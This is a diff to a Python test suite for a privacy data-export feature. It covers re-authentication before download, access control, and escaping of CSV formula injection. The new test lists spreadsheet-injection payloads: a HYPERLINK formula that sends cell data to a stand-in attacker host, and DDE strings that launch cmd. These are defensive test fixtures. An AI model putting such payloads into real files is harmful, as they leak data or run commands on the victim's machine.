@@ -1,3 +1,4 @@
+import csv
 import io
 import json
 import zipfile
@@ -21,7 +22,7 @@ from privacy.registry import registry
 from privacy.selectors import personal_data_inventory
 from privacy.tasks import build_export, expire_exports, sweep_stuck_requests
 from tests.conftest import make_customer, sign_in_recently
-from tests.factories import give_history
+from tests.factories import ConversationFactory, MessageFactory, give_history
 
 
 @pytest.fixture
@@ -56,6 +57,17 @@ def test_asking_for_an_export_requires_reauthentication(alice_client):
     response = alice_client.post("/requests/export/")
     assert response["Location"].startswith("/accounts/reauthenticate/")
     assert not PrivacyRequest.objects.exists()
+
+
+def test_downloading_the_archive_asks_for_recent_re_authentication_like_asking_for_it(
+    client_factory, alices_export, alice
+):
+    # Signed in long ago (no recent proof): an unlocked laptop must not hand the archive out.
+    stale = client_factory()
+    stale.force_login(alice)
+    response = stale.get(f"/requests/{alices_export.pk}/download/")
+    assert response.status_code == 302
+    assert response["Location"].startswith("/accounts/reauthenticate/")
 
 
 def test_anonymous_visitors_are_sent_to_sign_in(client, alices_export):
@@ -158,6 +170,54 @@ def test_each_source_has_a_csv_and_the_html_report_loads_nothing_from_elsewhere(
     assert "data.json" in files.read("README.txt").decode()
 
 
+def csv_table(files: zipfile.ZipFile, source_key: str) -> list[dict[str, str]]:
+    """A CSV of the archive read as a spreadsheet program would: by the csv module, cell by cell."""
+    with files.open(f"sources/{source_key}.csv") as raw:
+        return list(csv.DictReader(io.TextIOWrapper(raw, encoding="utf-8", newline="")))
+
+
+# Every leading character OWASP's CSV-injection rule names, each as an attack would use it.
+FORMULAS = [
+    '=HYPERLINK("http://evil.invalid/?"&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_neutralised_and_the_json_keeps_them_as_they_are(
+    recent_alice, alice, bob, django_capture_on_commit_callbacks
+):
+    conversation = ConversationFactory.create(customer=alice, subject="=1+1")
+    for body in [*FORMULAS, "-5", "Hello = world, mail me @ home", "5 + 3"]:
+        MessageFactory.create(conversation=conversation, body=body)
+    alice.phone = "+442079460011"
+    alice.save(update_fields=["phone"])
+    MessageFactory.create(conversation=ConversationFactory.create(customer=bob), body="=BOB()")
+    request_export(recent_alice, django_capture_on_commit_callbacks)
+    files = archive_of(PrivacyRequest.objects.get(user=alice, kind="export"))
+
+    bodies = [row["body"] for row in csv_table(files, "interactions.message")]
+    for formula in FORMULAS:
+        assert "'" + formula in bodies and formula not in bodies
+    # Text that begins with a trigger is text, even when it looks like a number
+    # (OWASP: prefix every such cell): "-5" stays readable as '-5, and a phone
+    # number keeps its + instead of becoming 4.42E+11. Other text is untouched.
+    assert "'-5" in bodies and "Hello = world, mail me @ home" in bodies and "5 + 3" in bodies
+    assert "=BOB()" not in bodies and "'=BOB()" not in bodies
+    assert [row["subject"] for row in csv_table(files, "interactions.conversation")] == ["'=1+1"]
+    assert [row["phone"] for row in csv_table(files, "accounts.user")] == ["'+442079460011"]
+    # Numbers the database holds as numbers are written as numbers.
+    assert {row["value__confidence"] for row in csv_table(files, "interactions.aiinference")} <= {"0.73", ""}
+    # data.json is data, not a spreadsheet: every value exactly as held.
+    data = json.loads(files.read("data.json"))
+    messages = next(s for s in data["sources"] if s["source"] == "interactions.message")
+    assert {row["body"] for row in messages["rows"]} >= {*FORMULAS, "-5"}
+    assert not any(row["body"].startswith("'") for row in messages["rows"])
+
+
 def test_the_download_is_a_private_attachment_and_is_audited(recent_alice, alices_export, alice):
     response = recent_alice.get(f"/requests/{alices_export.pk}/download/")
     assert response.status_code == 200
@@ -170,16 +230,18 @@ def test_the_download_is_a_private_attachment_and_is_audited(recent_alice, alice
     ).exists()
 
 
-def test_bob_gets_404_for_alices_export_page_and_download(client, alices_export, bob):
-    client.force_login(bob)
+def test_bob_gets_404_for_alices_export_page_and_download(client_factory, alices_export, bob):
+    client = client_factory()  # Bob's own browser
+    sign_in_recently(client, bob.email)  # so the download is not held back for re-authentication
     assert client.get(f"/requests/{alices_export.pk}/").status_code == 404
     assert client.get(f"/requests/{alices_export.pk}/download/").status_code == 404
     assert "Export of your data" not in client.get("/requests/").content.decode()
 
 
-def test_staff_cannot_download_a_customers_archive(client, alices_export):
+def test_staff_cannot_download_a_customers_archive(client_factory, alices_export):
     officer = make_customer("officer@example.com", is_staff=True, is_superuser=True)
-    client.force_login(officer)
+    client = client_factory()  # the officer's own browser
+    sign_in_recently(client, officer.email)
     assert client.get(f"/requests/{alices_export.pk}/download/").status_code == 404
 
 
